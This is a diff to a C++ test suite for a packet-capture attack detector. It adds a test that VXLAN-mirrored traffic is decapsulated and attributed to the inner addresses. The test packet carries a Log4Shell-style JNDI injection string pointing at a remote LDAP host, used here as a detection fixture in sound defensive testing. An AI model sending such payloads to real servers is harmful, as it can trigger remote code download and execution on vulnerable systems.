@@ -381,6 +381,18 @@ TEST(CaptureAnalyzer, FlowLimitEvictsTheIdlestAndKeepsWorking) {
   ASSERT_EQ(r.detections.size(), 1u) << "the busy flow survived every eviction";
 }
 
+TEST(CaptureAnalyzer, VxlanMirroredTrafficIsDecapsulated) {
+  Feeder feed;
+  std::string inner = TcpFrame("203.0.113.5", 40000, "10.0.0.10", 80, 1, kTcpAck,
+                               "GET /?q=${jndi:ldap://9.9.9.6/a} HTTP/1.1\r\n\r\n");
+  std::string vxlan("\x08\x00\x00\x00\x00\x00\x01\x00", 8);  // I flag, VNI 1
+  feed(UdpFrame("172.31.0.5", 55555, "172.31.0.9", 4789, vxlan + inner));
+  CaptureResult r = feed.analyzer.Finish();
+  ASSERT_EQ(r.detections.size(), 1u);
+  EXPECT_EQ(r.detections[0].flow.src_ip, "203.0.113.5") << "the mirrored packet's addresses, not the tunnel's";
+  EXPECT_EQ(r.detections[0].field, "request_line");
+}
+
 TEST(CaptureAnalyzer, ResponsesAreNotAttempts) {
   Feeder feed;
   Conn c{"192.168.2.6", 38782, "192.168.2.5", 8080};
